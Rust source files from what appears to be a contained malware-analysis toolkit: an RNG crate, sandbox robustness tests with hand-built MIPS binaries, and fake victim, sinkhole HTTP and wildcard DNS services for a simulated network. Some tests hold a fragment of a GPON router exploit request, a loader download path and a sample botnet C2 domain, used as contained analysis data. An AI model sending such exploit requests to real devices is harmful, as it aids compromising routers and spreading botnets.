//! The crate also provides [`sub_seed`], the canonical per-sample seed
//! derivation used by the parallel pipeline: every (master seed, day,
//! sample) triple maps to an independent sandbox seed, so per-sample
//! runs are reproducible in isolation regardless of scheduling.

#![forbid(unsafe_code)]
#![warn(missing_docs)]

/// One step of the splitmix64 sequence; updates `state` and returns the
/// next output.
pub fn splitmix64(state: &mut u64) -> u64 {
    *state = state.wrapping_add(0x9e37_79b9_7f4a_7c15);
    let mut z = *state;
    z = (z ^ (z >> 30)).wrapping_mul(0xbf58_476d_1ce4_e5b9);
    z = (z ^ (z >> 27)).wrapping_mul(0x94d0_49bb_1331_11eb);
    z ^ (z >> 31)
}

/// FNV-1a over a byte string, yielding a stable 64-bit id.
///
/// The pipeline's [`sub_seed`] coordinates are numeric; streams keyed by
/// a *string* (a C2 address in the liveness oracle, a vendor-feed
/// record) hash the string through this first. FNV-1a is tiny,
/// dependency-free, and stable across platforms — collision freedom for
/// the address sets a study actually draws is checked by the
/// `sub_seed_domains_never_collide` proptest in `malnet-core`.
pub fn fnv1a(bytes: &[u8]) -> u64 {
    let mut h: u64 = 0xcbf2_9ce4_8422_2325;
    for &b in bytes {
        h ^= u64::from(b);
        h = h.wrapping_mul(0x0000_0100_0000_01b3);
    }
    h
}

/// Derive an independent sub-seed from a master seed and two coordinates
/// (typically study day and sample id). Used by the pipeline so each
/// sample's contained sandbox run has its own reproducible randomness,
/// independent of the order or thread the run executes on.
pub fn sub_seed(master: u64, day: u32, id: u64) -> u64 {
    let mut s = master;
    let a = splitmix64(&mut s);
    let mut s2 = a ^ (u64::from(day).wrapping_mul(0xd6e8_feb8_6659_fd93));
    let b = splitmix64(&mut s2);
    let mut s3 = b ^ id.wrapping_mul(0xa076_1d64_78bd_642f);
    splitmix64(&mut s3)
}

/// Seedable generators (the `rand::SeedableRng` subset we use).
pub trait SeedableRng: Sized {
    /// Construct from a 64-bit seed. Equal seeds give equal streams.
    fn seed_from_u64(seed: u64) -> Self;
}

/// Core entropy source: everything else derives from `next_u64`.
pub trait RngCore {
    /// The next 64 uniformly-distributed bits.
    fn next_u64(&mut self) -> u64;
}

/// The workspace's standard generator: xoshiro256**.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct StdRng {
    s: [u64; 4],
}

impl SeedableRng for StdRng {
    fn seed_from_u64(seed: u64) -> Self {
        let mut sm = seed;
        StdRng {
            s: [
                splitmix64(&mut sm),
                splitmix64(&mut sm),
                splitmix64(&mut sm),
                splitmix64(&mut sm),
            ],
        }
    }
}

impl RngCore for StdRng {
    fn next_u64(&mut self) -> u64 {
        let s = &mut self.s;
        let result = s[1].wrapping_mul(5).rotate_left(7).wrapping_mul(9);
        let t = s[1] << 17;
        s[2] ^= s[0];
        s[3] ^= s[1];
        s[1] ^= s[2];
        s[0] ^= s[3];
        s[2] ^= t;
        s[3] = s[3].rotate_left(45);
        result
    }
}

/// A uniform double in `[0, 1)` from 53 random bits.
fn unit_f64(bits: u64) -> f64 {
    (bits >> 11) as f64 * (1.0 / (1u64 << 53) as f64)
}

/// Types drawable with [`Rng::gen`] (the `rand::distributions::Standard`
/// subset we use).
pub trait Standard: Sized {
    /// Draw one value from the generator.
    fn draw<R: RngCore + ?Sized>(rng: &mut R) -> Self;
}

macro_rules! impl_standard_int {
    ($($t:ty),*) => {$(
        impl Standard for $t {
            fn draw<R: RngCore + ?Sized>(rng: &mut R) -> Self {
                rng.next_u64() as $t
            }
        }
    )*};
}
impl_standard_int!(u8, u16, u32, u64, usize, i8, i16, i32, i64, isize);

impl Standard for bool {
    fn draw<R: RngCore + ?Sized>(rng: &mut R) -> Self {
        rng.next_u64() & 1 == 1
    }
}

impl Standard for f64 {
    fn draw<R: RngCore + ?Sized>(rng: &mut R) -> Self {
        unit_f64(rng.next_u64())
    }
}

impl Standard for f32 {
    fn draw<R: RngCore + ?Sized>(rng: &mut R) -> Self {
        unit_f64(rng.next_u64()) as f32
    }
}

/// Types [`Rng::gen_range`] can sample uniformly from a range.
pub trait SampleUniform: Copy + PartialOrd {
    /// Draw uniformly from `lo..hi` (`inclusive = false`) or `lo..=hi`
    /// (`inclusive = true`). The caller guarantees a non-empty range.
    fn sample_uniform<R: RngCore + ?Sized>(
        lo: Self,
        hi: Self,
        inclusive: bool,
        rng: &mut R,
    ) -> Self;
}

macro_rules! impl_sample_uniform_int {
    ($($t:ty),*) => {$(
        impl SampleUniform for $t {
            fn sample_uniform<R: RngCore + ?Sized>(
                lo: Self,
                hi: Self,
                inclusive: bool,
                rng: &mut R,
            ) -> Self {
                let span = (hi as u128)
                    .wrapping_sub(lo as u128)
                    .wrapping_add(u128::from(inclusive));
                let off = rng.next_u64() as u128 % span;
                (lo as u128).wrapping_add(off) as $t
            }
        }
    )*};
}
impl_sample_uniform_int!(u8, u16, u32, u64, usize, i8, i16, i32, i64, isize);

macro_rules! impl_sample_uniform_float {
    ($($t:ty),*) => {$(
        impl SampleUniform for $t {
            fn sample_uniform<R: RngCore + ?Sized>(
                lo: Self,
                hi: Self,
                _inclusive: bool,
                rng: &mut R,
            ) -> Self {
                let u = unit_f64(rng.next_u64()) as $t;
                lo + u * (hi - lo)
            }
        }
    )*};
}
impl_sample_uniform_float!(f32, f64);

/// Ranges usable with [`Rng::gen_range`] (the `rand` `SampleRange`
/// equivalent). Blanket-implemented for `Range` and `RangeInclusive`
/// over every [`SampleUniform`] type — a single generic impl per range
/// shape, so integer-literal inference flows through `gen_range`
/// exactly as it does with `rand` 0.8.
pub trait SampleRange<T> {
    /// Draw one value uniformly from the range. Panics on empty ranges.
    fn sample_from<R: RngCore + ?Sized>(self, rng: &mut R) -> T;
}

impl<T: SampleUniform> SampleRange<T> for core::ops::Range<T> {
    fn sample_from<R: RngCore + ?Sized>(self, rng: &mut R) -> T {
        assert!(self.start < self.end, "gen_range: empty range");
        T::sample_uniform(self.start, self.end, false, rng)
    }
}

impl<T: SampleUniform> SampleRange<T> for core::ops::RangeInclusive<T> {
    fn sample_from<R: RngCore + ?Sized>(self, rng: &mut R) -> T {
        let (lo, hi) = (*self.start(), *self.end());
        assert!(lo <= hi, "gen_range: empty range");
        T::sample_uniform(lo, hi, true, rng)
    }
}

/// Convenience draws on top of [`RngCore`] (the `rand::Rng` subset we
/// use). Blanket-implemented for every generator.
pub trait Rng: RngCore {
    /// Draw a value of an inferred type (integers, bools, floats).
    fn gen<T: Standard>(&mut self) -> T {
        T::draw(self)
    }

    /// Bernoulli draw: `true` with probability `p`.
    fn gen_bool(&mut self, p: f64) -> bool {
        assert!((0.0..=1.0).contains(&p), "gen_bool: p = {p} out of range");
        unit_f64(self.next_u64()) < p
    }

    /// Uniform draw from a range (`a..b` or `a..=b`).
    fn gen_range<T, S: SampleRange<T>>(&mut self, range: S) -> T {
        range.sample_from(self)
    }

    /// Fill a byte slice with random bytes.
    fn fill(&mut self, dest: &mut [u8]) {
        for chunk in dest.chunks_mut(8) {
            let bytes = self.next_u64().to_le_bytes();
            chunk.copy_from_slice(&bytes[..chunk.len()]);
        }
    }
}

impl<T: RngCore + ?Sized> Rng for T {}

/// Re-export home matching `rand::rngs`.
pub mod rngs {
    pub use super::StdRng;
}

/// Slice helpers (the `rand::seq` subset we use).
pub mod seq {
    use super::{Rng, RngCore};

    /// In-place shuffling and sampling.
    pub trait SliceRandom {
        /// Element type of the slice.
        type Item;

        /// Fisher–Yates shuffle driven by `rng`.
        fn shuffle<R: RngCore + ?Sized>(&mut self, rng: &mut R);

        /// Sample `amount` distinct elements (fewer if the slice is
        /// shorter), in random order.
        fn choose_multiple<R: RngCore + ?Sized>(
            &self,
            rng: &mut R,
            amount: usize,
        ) -> std::vec::IntoIter<&Self::Item>;
    }

    impl<T> SliceRandom for [T] {
        type Item = T;

        fn shuffle<R: RngCore + ?Sized>(&mut self, rng: &mut R) {
            for i in (1..self.len()).rev() {
                let j = rng.gen_range(0..=i);
                self.swap(i, j);
            }
        }

        fn choose_multiple<R: RngCore + ?Sized>(
            &self,
            rng: &mut R,
            amount: usize,
        ) -> std::vec::IntoIter<&T> {
            let amount = amount.min(self.len());
            // Partial Fisher–Yates over an index vector.
            let mut idx: Vec<usize> = (0..self.len()).collect();
            for i in 0..amount {
                let j = rng.gen_range(i..idx.len());
                idx.swap(i, j);
            }
            idx.truncate(amount);
            idx.into_iter()
                .map(|i| &self[i])
                .collect::<Vec<_>>()
                .into_iter()
        }
    }
}

#[cfg(test)]
mod tests {
    use super::seq::SliceRandom;
    use super::*;

    #[test]
    fn same_seed_same_stream() {
        let mut a = StdRng::seed_from_u64(7);
        let mut b = StdRng::seed_from_u64(7);
        for _ in 0..100 {
            assert_eq!(a.next_u64(), b.next_u64());
        }
    }

    #[test]
    fn different_seeds_diverge() {
        let mut a = StdRng::seed_from_u64(1);
        let mut b = StdRng::seed_from_u64(2);
        let same = (0..64).filter(|_| a.next_u64() == b.next_u64()).count();
        assert!(same == 0, "{same} collisions in 64 draws");
    }

    #[test]
    fn gen_range_respects_bounds() {
        let mut r = StdRng::seed_from_u64(3);
        for _ in 0..1000 {
            let v = r.gen_range(10u32..20);
            assert!((10..20).contains(&v));
            let w = r.gen_range(5u8..=9);
            assert!((5..=9).contains(&w));
            let f = r.gen_range(0.25f64..0.75);
            assert!((0.25..0.75).contains(&f));
        }
    }

    #[test]
    fn gen_bool_tracks_probability() {
        let mut r = StdRng::seed_from_u64(4);
        let n = 20_000;
        let hits = (0..n).filter(|_| r.gen_bool(0.3)).count();
        let rate = hits as f64 / n as f64;
        assert!((0.27..0.33).contains(&rate), "{rate}");
        let mut r2 = StdRng::seed_from_u64(5);
        assert!((0..100).all(|_| !r2.gen_bool(0.0)));
        let mut r3 = StdRng::seed_from_u64(6);
        assert!((0..100).all(|_| r3.gen_bool(1.0)));
    }

    #[test]
    fn unit_interval_draws_cover() {
        let mut r = StdRng::seed_from_u64(8);
        let mut lo = false;
        let mut hi = false;
        for _ in 0..1000 {
            let u: f64 = r.gen();
            assert!((0.0..1.0).contains(&u));
            lo |= u < 0.1;
            hi |= u > 0.9;
        }
        assert!(lo && hi);
    }

    #[test]
    fn shuffle_is_a_permutation_and_deterministic() {
        let mut v: Vec<u32> = (0..50).collect();
        let mut r = StdRng::seed_from_u64(9);
        v.shuffle(&mut r);
        let mut w: Vec<u32> = (0..50).collect();
        let mut r2 = StdRng::seed_from_u64(9);
        w.shuffle(&mut r2);
        assert_eq!(v, w);
        let mut sorted = v.clone();
        sorted.sort_unstable();
        assert_eq!(sorted, (0..50).collect::<Vec<_>>());
        assert_ne!(v, sorted, "shuffle left the slice sorted");
    }

    #[test]
    fn fill_is_deterministic_and_varied() {
        let mut a = [0u8; 37];
        let mut b = [0u8; 37];
        StdRng::seed_from_u64(10).fill(&mut a);
        StdRng::seed_from_u64(10).fill(&mut b);
        assert_eq!(a, b);
        assert!(a.iter().any(|&x| x != a[0]), "constant bytes");
    }

    #[test]
    fn sub_seed_separates_coordinates() {
        // Distinct (day, id) pairs under one master seed must give
        // distinct sub-seeds; the same triple is stable.
        let mut seen = std::collections::HashSet::new();
        for day in 0..50u32 {
            for id in 0..50u64 {
                assert!(seen.insert(sub_seed(22, day, id)), "collision {day}/{id}");
            }
        }
        assert_eq!(sub_seed(22, 3, 4), sub_seed(22, 3, 4));
        assert_ne!(sub_seed(22, 3, 4), sub_seed(23, 3, 4));
    }
}
