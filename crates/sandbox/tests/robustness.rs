//! Sandbox robustness: hostile inputs, resource limits, and containment
//! guarantees. The sandbox must never panic, never leak traffic, and
//! always return artifacts.

use std::net::Ipv4Addr;

use malnet_mips::asm::{Assembler, Ins, Reg};
use malnet_mips::elf::{ElfFile, ElfSegment};
use malnet_mips::sys;
use malnet_netsim::net::Network;
use malnet_netsim::time::{SimDuration, SimTime};
use malnet_sandbox::{AnalysisMode, EmuFaults, ExitReason, Sandbox, SandboxConfig};

fn sandbox() -> Sandbox {
    Sandbox::new(Network::new(SimTime::EPOCH, 1), SandboxConfig::default())
}

/// Build a minimal hand-written ELF from raw instructions.
fn elf_from(ins: Vec<Ins>) -> Vec<u8> {
    let base = 0x0040_0000;
    let mut a = Assembler::new(base);
    for i in ins {
        a.ins(i);
    }
    let text = a.assemble().unwrap();
    ElfFile {
        entry: base,
        segments: vec![ElfSegment {
            vaddr: base,
            memsz: text.len() as u32,
            data: text,
            writable: false,
            executable: true,
            name: ".text",
        }],
    }
    .write()
}

#[test]
fn garbage_bytes_fail_activation_cleanly() {
    let mut sb = sandbox();
    for input in [
        vec![],
        vec![0u8; 10],
        b"MZ\x90\x00not an elf at all".to_vec(),
        vec![0x7f, b'E', b'L', b'F', 9, 9, 9, 9],
    ] {
        let art = sb.execute(&input, SimDuration::from_secs(5));
        assert!(matches!(art.exit, ExitReason::Fault(_)), "{:?}", art.exit);
        assert_eq!(art.instructions, 0);
    }
}

#[test]
fn spinning_binary_hits_instruction_budget() {
    // j self — an infinite compute loop with no syscalls.
    let elf = elf_from(vec![Ins::J(0x0040_0000u32.into())]);
    let mut sb = Sandbox::new(
        Network::new(SimTime::EPOCH, 1),
        SandboxConfig {
            instruction_budget: 100_000,
            ..Default::default()
        },
    );
    let art = sb.execute(&elf, SimDuration::from_secs(60));
    assert_eq!(art.exit, ExitReason::Budget);
    assert!(art.instructions >= 100_000);
}

#[test]
fn segfaulting_binary_reports_fault() {
    // lw from unmapped memory.
    let elf = elf_from(vec![
        Ins::Li(Reg::T0, 0xdead_0000),
        Ins::Lw(Reg::T1, Reg::T0, 0),
    ]);
    let mut sb = sandbox();
    let art = sb.execute(&elf, SimDuration::from_secs(5));
    match art.exit {
        ExitReason::Fault(msg) => assert!(msg.contains("unmapped"), "{msg}"),
        other => panic!("expected fault, got {other:?}"),
    }
}

#[test]
fn clean_exit_status_is_reported() {
    let elf = elf_from(vec![
        Ins::Li(Reg::A0, 42),
        Ins::Li(Reg::V0, sys::NR_EXIT),
        Ins::Syscall,
    ]);
    let mut sb = sandbox();
    let art = sb.execute(&elf, SimDuration::from_secs(5));
    assert_eq!(art.exit, ExitReason::Exited(42));
    assert_eq!(art.syscalls, 1);
}

#[test]
fn unknown_syscalls_fail_soft() {
    // An unknown syscall number must return an error to the guest, not
    // kill the run; the guest then exits normally.
    let elf = elf_from(vec![
        Ins::Li(Reg::V0, 4999),
        Ins::Syscall,
        Ins::Li(Reg::A0, 0),
        Ins::Li(Reg::V0, sys::NR_EXIT),
        Ins::Syscall,
    ]);
    let mut sb = sandbox();
    let art = sb.execute(&elf, SimDuration::from_secs(5));
    assert_eq!(art.exit, ExitReason::Exited(0));
}

#[test]
fn weaponized_mode_redirects_every_connect() {
    // The guest connects to 1.2.3.4:9999; in weaponized mode the SYN must
    // appear on the wire toward the probe target instead.
    let target_ip = Ipv4Addr::new(10, 50, 0, 1);
    let mut a = Assembler::new(0x0040_0000);
    // socket(AF_INET, SOCK_STREAM, 0)
    a.ins(Ins::Li(Reg::A0, sys::AF_INET))
        .ins(Ins::Li(Reg::A1, sys::SOCK_STREAM))
        .ins(Ins::Li(Reg::A2, 0))
        .ins(Ins::Li(Reg::V0, sys::NR_SOCKET))
        .ins(Ins::Syscall)
        .ins(Ins::Move(Reg::S0, Reg::V0))
        // build sockaddr for 1.2.3.4:9999 on the stack
        .ins(Ins::Li(
            Reg::T0,
            u32::from(sys::AF_INET as u16) << 16 | 9999,
        ))
        .ins(Ins::Sw(Reg::T0, Reg::SP, 32))
        .ins(Ins::Li(Reg::T1, u32::from(Ipv4Addr::new(1, 2, 3, 4))))
        .ins(Ins::Sw(Reg::T1, Reg::SP, 36))
        .ins(Ins::Move(Reg::A0, Reg::S0))
        .ins(Ins::Addiu(Reg::A1, Reg::SP, 32))
        .ins(Ins::Li(Reg::A2, 16))
        .ins(Ins::Li(Reg::V0, sys::NR_CONNECT))
        .ins(Ins::Syscall)
        .ins(Ins::Li(Reg::A0, 0))
        .ins(Ins::Li(Reg::V0, sys::NR_EXIT))
        .ins(Ins::Syscall);
    let text = a.assemble().unwrap();
    let elf = ElfFile {
        entry: 0x0040_0000,
        segments: vec![ElfSegment {
            vaddr: 0x0040_0000,
            memsz: text.len() as u32,
            data: text,
            writable: false,
            executable: true,
            name: ".text",
        }],
    }
    .write();
    let mut sb = Sandbox::new(
        Network::new(SimTime::EPOCH, 2),
        SandboxConfig {
            mode: AnalysisMode::Weaponized {
                target: (target_ip, 1312),
            },
            ..Default::default()
        },
    );
    let art = sb.execute(&elf, SimDuration::from_secs(20));
    let packets = art.packets();
    assert!(
        packets
            .iter()
            .any(|(_, p)| p.dst == target_ip && p.transport.dst_port() == Some(1312)),
        "SYN must go to the probe target: {packets:?}"
    );
    assert!(
        !packets
            .iter()
            .any(|(_, p)| p.dst == Ipv4Addr::new(1, 2, 3, 4)),
        "original C2 must never be contacted"
    );
}

/// A guest that leaks sockets: loop opening TCP sockets until either 64
/// succeed (exit with the success count) or `socket` fails. On failure
/// the guest checks that `$a3` carries `EMFILE` — any other errno exits
/// 99 so the test can tell "capped" apart from "failed differently".
fn socket_leak_guest() -> Vec<u8> {
    let mut a = Assembler::new(0x0040_0000);
    a.ins(Ins::Li(Reg::S0, 0)) // successes
        .label("loop")
        .ins(Ins::Li(Reg::A0, sys::AF_INET))
        .ins(Ins::Li(Reg::A1, sys::SOCK_STREAM))
        .ins(Ins::Li(Reg::A2, 0))
        .ins(Ins::Li(Reg::V0, sys::NR_SOCKET))
        .ins(Ins::Syscall)
        .ins(Ins::Bltz(Reg::V0, "capped".into()))
        .ins(Ins::Nop)
        .ins(Ins::Addiu(Reg::S0, Reg::S0, 1))
        .ins(Ins::Slti(Reg::T0, Reg::S0, 64))
        .ins(Ins::Bne(Reg::T0, Reg::ZERO, "loop".into()))
        .ins(Ins::Nop)
        // Never capped: exit with the success count (64).
        .ins(Ins::Move(Reg::A0, Reg::S0))
        .ins(Ins::Li(Reg::V0, sys::NR_EXIT))
        .ins(Ins::Syscall)
        .label("capped")
        .ins(Ins::Li(Reg::T1, sys::EMFILE))
        .ins(Ins::Bne(Reg::A3, Reg::T1, "wrong_errno".into()))
        .ins(Ins::Nop)
        .ins(Ins::Move(Reg::A0, Reg::S0))
        .ins(Ins::Li(Reg::V0, sys::NR_EXIT))
        .ins(Ins::Syscall)
        .label("wrong_errno")
        .ins(Ins::Li(Reg::A0, 99))
        .ins(Ins::Li(Reg::V0, sys::NR_EXIT))
        .ins(Ins::Syscall);
    let text = a.assemble().unwrap();
    ElfFile {
        entry: 0x0040_0000,
        segments: vec![ElfSegment {
            vaddr: 0x0040_0000,
            memsz: text.len() as u32,
            data: text,
            writable: false,
            executable: true,
            name: ".text",
        }],
    }
    .write()
}

#[test]
fn fd_table_cap_returns_emfile_to_the_guest() {
    // With the table bounded at 4, the fifth socket() must fail soft
    // with EMFILE: the guest sees -1/$a3=EMFILE and exits with its
    // success count. Exit code 99 would mean a different errno leaked.
    let elf = socket_leak_guest();
    let mut sb = Sandbox::new(
        Network::new(SimTime::EPOCH, 1),
        SandboxConfig {
            fd_cap: 4,
            ..Default::default()
        },
    );
    let art = sb.execute(&elf, SimDuration::from_secs(30));
    assert_eq!(art.exit, ExitReason::Exited(4), "cap must bite at 4 fds");
    assert_eq!(art.emu_faults.emfile, 1, "EMFILE must be tallied");
}

#[test]
fn default_fd_cap_is_generous() {
    // The same leaking guest under the default cap never sees EMFILE:
    // all 64 sockets open and the run exits cleanly.
    let elf = socket_leak_guest();
    let mut sb = sandbox();
    let art = sb.execute(&elf, SimDuration::from_secs(30));
    assert_eq!(art.exit, ExitReason::Exited(64));
    assert_eq!(art.emu_faults.emfile, 0);
}

#[test]
fn fault_plan_fd_cap_tightens_the_table_bound() {
    // An emulator fault sub-plan squeezes the cap below the configured
    // bound; the honest table limit stays as the backstop.
    let elf = socket_leak_guest();
    let mut sb = Sandbox::new(
        Network::new(SimTime::EPOCH, 1),
        SandboxConfig {
            emu_faults: EmuFaults {
                fd_cap: Some(3),
                ..EmuFaults::none()
            },
            ..Default::default()
        },
    );
    let art = sb.execute(&elf, SimDuration::from_secs(30));
    assert_eq!(art.exit, ExitReason::Exited(3), "sub-plan cap must win");
    assert_eq!(art.emu_faults.emfile, 1);
}

#[test]
fn deadline_is_enforced_during_sleep() {
    // nanosleep(10_000s) with a 5s deadline: the run must stop at the
    // deadline, not after the sleep.
    let mut a = Assembler::new(0x0040_0000);
    a.ins(Ins::Li(Reg::T0, 10_000))
        .ins(Ins::Sw(Reg::T0, Reg::SP, 32))
        .ins(Ins::Sw(Reg::ZERO, Reg::SP, 36))
        .ins(Ins::Addiu(Reg::A0, Reg::SP, 32))
        .ins(Ins::Li(Reg::A1, 0))
        .ins(Ins::Li(Reg::V0, sys::NR_NANOSLEEP))
        .ins(Ins::Syscall)
        .label("spin")
        .ins(Ins::J("spin".into()));
    let text = a.assemble().unwrap();
    let elf = ElfFile {
        entry: 0x0040_0000,
        segments: vec![ElfSegment {
            vaddr: 0x0040_0000,
            memsz: text.len() as u32,
            data: text,
            writable: false,
            executable: true,
            name: ".text",
        }],
    }
    .write();
    let mut sb = sandbox();
    let start = sb.net.now();
    let art = sb.execute(&elf, SimDuration::from_secs(5));
    assert!(matches!(
        art.exit,
        ExitReason::Deadline | ExitReason::Budget
    ));
    let elapsed = sb.net.now().since(start);
    assert!(elapsed <= SimDuration::from_secs(6), "{elapsed:?}");
}
