//! Fake-endpoint services the sandbox spins up on demand.

use std::collections::BTreeMap;
use std::net::Ipv4Addr;
use std::sync::{Arc, Mutex};

use malnet_netsim::net::{Service, ServiceCtx};
use malnet_netsim::stack::SockEvent;

/// One exploit payload captured by a fake victim.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct VictimCapture {
    /// The impersonated victim address.
    pub victim: Ipv4Addr,
    /// The destination port the malware attacked.
    pub port: u16,
    /// The first payload the malware sent after the handshake.
    pub payload: Vec<u8>,
    /// Capture time (µs since epoch).
    pub ts_micros: u64,
}

/// Shared collector the sandbox reads after a run.
pub type VictimLog = Arc<Mutex<Vec<VictimCapture>>>;

/// A fake victim: completes the TCP handshake on its ports, records the
/// first payload of each connection, sends a bland acknowledgement, and
/// closes. This is the paper's handshaker endpoint (§2.4).
#[derive(Debug)]
pub struct FakeVictim {
    ip: Ipv4Addr,
    ports: Vec<u16>,
    log: VictimLog,
    got: BTreeMap<malnet_netsim::stack::SockId, bool>,
}

impl FakeVictim {
    /// A victim at `ip` accepting on `ports`, appending payloads to `log`.
    pub fn new(ip: Ipv4Addr, ports: Vec<u16>, log: VictimLog) -> Self {
        FakeVictim {
            ip,
            ports,
            log,
            got: BTreeMap::new(),
        }
    }
}

impl Service for FakeVictim {
    fn start(&mut self, ctx: &mut ServiceCtx<'_>) {
        for p in self.ports.clone() {
            ctx.tcp_listen(p);
        }
    }

    fn on_event(&mut self, ctx: &mut ServiceCtx<'_>, ev: SockEvent) {
        match ev {
            SockEvent::TcpData { sock, data } => {
                if let std::collections::btree_map::Entry::Vacant(e) = self.got.entry(sock) {
                    e.insert(true);
                    let port = ctx.stack.local_port(sock).unwrap_or(0);
                    self.log.lock().unwrap().push(VictimCapture {
                        victim: self.ip,
                        port,
                        payload: data,
                        ts_micros: ctx.now.as_micros(),
                    });
                    // A minimal HTTP-ish acknowledgement keeps chatty
                    // exploits talking; then close like an embedded httpd.
                    ctx.tcp_send(sock, b"HTTP/1.1 200 OK\r\nContent-Length: 0\r\n\r\n");
                    ctx.tcp_close(sock);
                }
            }
            SockEvent::PeerClosed { sock } | SockEvent::Reset { sock } => {
                self.got.remove(&sock);
            }
            _ => {}
        }
    }
}

/// InetSim-style sinkhole: accepts TCP on any listed port, replies with a
/// canned HTTP 200 and a tiny body for anything that looks like HTTP, or
/// stays silent otherwise. Used to fake downloader servers in contained
/// mode so loaders "succeed".
#[derive(Debug)]
pub struct InetSimHttp {
    ports: Vec<u16>,
}

impl InetSimHttp {
    /// Fake HTTP on `ports` (typically 80).
    pub fn new(ports: Vec<u16>) -> Self {
        InetSimHttp { ports }
    }
}

impl Service for InetSimHttp {
    fn start(&mut self, ctx: &mut ServiceCtx<'_>) {
        for p in self.ports.clone() {
            ctx.tcp_listen(p);
        }
    }

    fn on_event(&mut self, ctx: &mut ServiceCtx<'_>, ev: SockEvent) {
        if let SockEvent::TcpData { sock, data } = ev {
            if data.starts_with(b"GET") || data.starts_with(b"POST") {
                ctx.tcp_send(
                    sock,
                    b"HTTP/1.0 200 OK\r\nServer: INetSim HTTP\r\nContent-Length: 10\r\n\r\nfake-binar",
                );
            }
            ctx.tcp_close(sock);
        }
    }
}

/// Wildcard DNS: answers **every** A query with a fixed sinkhole address.
/// This is InetSim's DNS behaviour; it lets DNS-configured malware
/// proceed far enough to reveal its C2 domain and follow-on traffic.
#[derive(Debug)]
pub struct WildcardDns {
    answer: Ipv4Addr,
    /// Names queried so far (the C2-domain evidence).
    pub queried: Arc<Mutex<Vec<String>>>,
}

impl WildcardDns {
    /// Answer every query with `answer`, recording names into `queried`.
    pub fn new(answer: Ipv4Addr, queried: Arc<Mutex<Vec<String>>>) -> Self {
        WildcardDns { answer, queried }
    }
}

impl Service for WildcardDns {
    fn start(&mut self, ctx: &mut ServiceCtx<'_>) {
        ctx.udp_bind(53);
    }

    fn on_event(&mut self, ctx: &mut ServiceCtx<'_>, ev: SockEvent) {
        let SockEvent::UdpData { src, data, .. } = ev else {
            return;
        };
        let Ok(q) = malnet_wire::dns::DnsMessage::decode(&data) else {
            return;
        };
        if q.is_response {
            return;
        }
        self.queried
            .lock()
            .unwrap()
            .push(q.question.as_str().to_string());
        // Fault injection (chaos layer): the fake resolver honours the
        // network's DNS fault policy exactly like the world resolver —
        // the name is still logged as evidence, but the bot may get no
        // answer, SERVFAIL, or NXDOMAIN.
        let faults = ctx.dns_faults();
        let injected = faults.decide(ctx.rng());
        if injected.is_some() {
            ctx.note_dns_fault();
        }
        let reply = match injected {
            Some(malnet_netsim::dns::DnsFailure::Drop) => return,
            Some(malnet_netsim::dns::DnsFailure::ServFail) => {
                malnet_wire::dns::DnsMessage::servfail(q.id, q.question.clone())
            }
            Some(malnet_netsim::dns::DnsFailure::NxDomain) => {
                malnet_wire::dns::DnsMessage::nxdomain(q.id, q.question.clone())
            }
            None => malnet_wire::dns::DnsMessage::answer(q.id, q.question.clone(), &[self.answer]),
        };
        ctx.udp_send(53, src.0, src.1, reply.encode());
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use malnet_netsim::net::Network;
    use malnet_netsim::time::{SimDuration, SimTime};
    use malnet_wire::dns::{DnsMessage, DomainName};

    const BOT: Ipv4Addr = Ipv4Addr::new(100, 64, 0, 2);
    const FAKE: Ipv4Addr = Ipv4Addr::new(100, 64, 0, 3);

    #[test]
    fn fake_victim_records_first_payload() {
        let log: VictimLog = Arc::default();
        let mut net = Network::new(SimTime::EPOCH, 5);
        net.add_service_host(
            FAKE,
            Box::new(FakeVictim::new(FAKE, vec![8080], log.clone())),
        );
        net.add_external_host(BOT);
        let sock = net.ext_tcp_connect(BOT, FAKE, 8080);
        net.run_for(SimDuration::from_secs(1));
        net.ext_tcp_send(
            BOT,
            sock,
            b"POST /GponForm/diag_Form HTTP/1.1\r\n\r\nXWebPageName=diag",
        );
        net.run_for(SimDuration::from_secs(2));
        let log = log.lock().unwrap();
        assert_eq!(log.len(), 1);
        assert_eq!(log[0].port, 8080);
        assert!(log[0].payload.starts_with(b"POST /GponForm"));
    }

    #[test]
    fn wildcard_dns_answers_everything() {
        let queried = Arc::new(Mutex::new(Vec::new()));
        let sink = Ipv4Addr::new(100, 64, 0, 1);
        let mut net = Network::new(SimTime::EPOCH, 5);
        net.add_service_host(FAKE, Box::new(WildcardDns::new(sink, queried.clone())));
        net.add_external_host(BOT);
        net.ext_udp_bind(BOT, 5000);
        let q = DnsMessage::query(3, DomainName::new("cnc.weird-botnet.ru").unwrap());
        net.ext_udp_send(BOT, 5000, FAKE, 53, q.encode());
        net.run_for(SimDuration::from_secs(1));
        let evs = net.ext_events(BOT);
        let reply = evs
            .iter()
            .find_map(|e| match e {
                SockEvent::UdpData { data, .. } => DnsMessage::decode(data).ok(),
                _ => None,
            })
            .expect("reply");
        assert_eq!(reply.answers[0].1, sink);
        assert_eq!(queried.lock().unwrap().as_slice(), ["cnc.weird-botnet.ru"]);
    }

    #[test]
    fn inetsim_http_serves_fake_body() {
        let mut net = Network::new(SimTime::EPOCH, 5);
        net.add_service_host(FAKE, Box::new(InetSimHttp::new(vec![80])));
        net.add_external_host(BOT);
        let sock = net.ext_tcp_connect(BOT, FAKE, 80);
        net.run_for(SimDuration::from_secs(1));
        net.ext_tcp_send(BOT, sock, b"GET /bins/mips HTTP/1.0\r\n\r\n");
        net.run_for(SimDuration::from_secs(1));
        let evs = net.ext_events(BOT);
        let data: Vec<u8> = evs
            .iter()
            .filter_map(|e| match e {
                SockEvent::TcpData { data, .. } => Some(data.clone()),
                _ => None,
            })
            .flatten()
            .collect();
        assert!(String::from_utf8_lossy(&data).contains("INetSim"));
    }
}
