//! Syscall-boundary fault injection: the emulator's share of a chaos
//! plan.
//!
//! The pipeline's `FaultPlan` (in `malnet-core`) perturbs the *world*
//! around a guest — links, DNS, C2 uptime, the binary itself. This
//! module pushes chaos **inside** the emulated kernel: an [`EmuFaults`]
//! sub-plan makes individual syscalls fail the way a hostile substrate
//! fails them — short reads/writes, `EINTR` on blocking calls, `ENOMEM`
//! on allocation-backed paths, and a reduced fd cap that turns `socket`
//! into `EMFILE` (IoT-BDA documents exactly these as the dominant
//! sandbox-run killers).
//!
//! Determinism contract, same as the rest of the chaos layer:
//!
//! * every decision is a pure function of `(seed, syscall-index)` via
//!   [`sub_seed`]-derived generators — the guest's own syscall stream
//!   is deterministic, so replaying a run replays its faults exactly,
